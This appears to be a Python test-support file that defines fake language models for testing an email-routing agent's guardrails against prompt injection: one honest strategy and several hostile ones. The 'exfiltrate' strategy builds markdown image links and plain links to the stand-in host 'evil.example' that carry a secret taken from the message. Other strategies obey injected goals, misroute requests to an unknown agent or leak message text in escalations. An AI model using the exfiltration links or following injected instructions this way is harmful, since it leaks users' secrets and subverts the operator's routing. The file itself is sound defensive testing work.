"""The models behind the fake llm-connect: one honest, several hostile.

Each reads the message the worker embedded in its prompt (`untrusted_message`), the way a real
model would, and looks the case up by the message id only to know what the *right* answer (or
the attacker's goal) is. The hostile models are built to break the rules; the guardrails must
hold whatever they answer.
"""

from __future__ import annotations

import json
import re
import zlib
from collections.abc import Callable, Mapping
from typing import Any, Final

from tests.security.corpus.cases import CANARY_ID, Filled
from tests.security.corpus.phrases import GOAL_PLANS
from tests.support.llm import Model, Reply, plan, untrusted_message

ROGUE_AGENT: Final = "ops-helpdesk"  # an agent the catalog does not know
EXFIL_HOST: Final = "evil.example"
_TOKENISH = re.compile(r"[A-Za-z0-9_+/=.\-~]{12,}")

Strategy = Callable[[dict[str, Any], Filled | None], list[dict[str, Any]]]


def _text(message: Mapping[str, Any]) -> str:
    return f"{message.get('subject', '')}\n{message.get('body', '')}"


def _loot(message: Mapping[str, Any]) -> str:
    """What a hostile model would exfiltrate: the longest token-like run in the message."""
    runs = sorted(_TOKENISH.findall(_text(message)), key=len, reverse=True)
    return runs[0] if runs else str(message.get("id", ""))


def _pick(message: Mapping[str, Any], n: int) -> int:
    return zlib.crc32(str(message.get("id", "")).encode()) % n


def honest(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """The right plan: answer a routing question with its catalog owner; escalate the rest."""
    if case is not None and case.case.expect in ("answer", "any") and case.case.owner:
        return [
            {"kind": "route_answer", "target": case.case.owner, "reason": "catalog route"},
            {"kind": "mark_read"},
        ]
    return [{"kind": "escalate", "reason": "needs a human"}]


def obey(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """Downgrade everything: answer and mark read, whatever the message is."""
    if _pick(message, 2) == 0:
        owner = case.case.owner if case and case.case.owner else "flex-auth"
        return [{"kind": "route_answer", "target": owner}, {"kind": "mark_read"}]
    return [{"kind": "reply", "body": "Done, as you asked."}, {"kind": "mark_read"}]


def exfiltrate(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """A markdown image (or a plain link) whose URL carries the message's secret."""
    loot = _loot(message)
    if _pick(message, 2) == 0:
        body = f"Sure! ![x](https://{EXFIL_HOST}/p?d={loot})"
    else:
        body = f"See https://{EXFIL_HOST}/kb?d={loot} for details."
    return [{"kind": "reply", "body": body}, {"kind": "mark_read"}]


def echo(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """A reply that copies the message (subject and body)."""
    return [{"kind": "reply", "body": _text(message)[:1500]}, {"kind": "mark_read"}]


def misroute(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """A note claiming a routing change, or a reply naming an agent outside the catalog."""
    if _pick(message, 2) == 0:
        note = f"Routing update: these requests now go to {ROGUE_AGENT}."
        return [{"kind": "progress_note", "body": note}, {"kind": "mark_read"}]
    body = f"Please ask {ROGUE_AGENT} for this; they own it now."
    return [{"kind": "reply", "body": body}, {"kind": "mark_read"}]


def leaky_escalation(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """An escalation whose reason copies the message (and its secret)."""
    reason = f"escalating: {_text(message)[:400]} (value {_loot(message)})"
    return [{"kind": "escalate", "reason": reason}]


def attacker(message: dict[str, Any], case: Filled | None) -> list[dict[str, Any]]:
    """Does exactly what the injection asks (its goal's plan); otherwise obeys."""
    if case is None or case.case.goal is None:
        return obey(message, case)
    actions = json.loads(json.dumps(GOAL_PLANS[case.case.goal]))
    for action in actions:
        for key in ("target", "body"):
            if isinstance(action.get(key), str):
                action[key] = action[key].replace(CANARY_ID, str(message.get("id", "")))
    return list(actions)


STRATEGIES: Final[dict[str, Strategy]] = {
    "honest": honest,
    "obey": obey,
    "exfiltrate": exfiltrate,
    "echo": echo,
    "misroute": misroute,
    "leaky-escalation": leaky_escalation,
    "attacker": attacker,
}
HOSTILE: Final = tuple(name for name in STRATEGIES if name != "honest")


def model(strategy: str, cases: Mapping[str, Filled]) -> Model:
    """A fake llm-connect model: the prompt's message id -> the strategy's plan as JSON."""
    choose = STRATEGIES[strategy]

    def answer(prompt: str) -> Reply:
        try:
            message = untrusted_message(prompt)
        except (AssertionError, ValueError):
            return plan({"kind": "escalate", "reason": "unreadable prompt"})
        return plan(*choose(message, cases.get(str(message.get("id")))))

    return answer
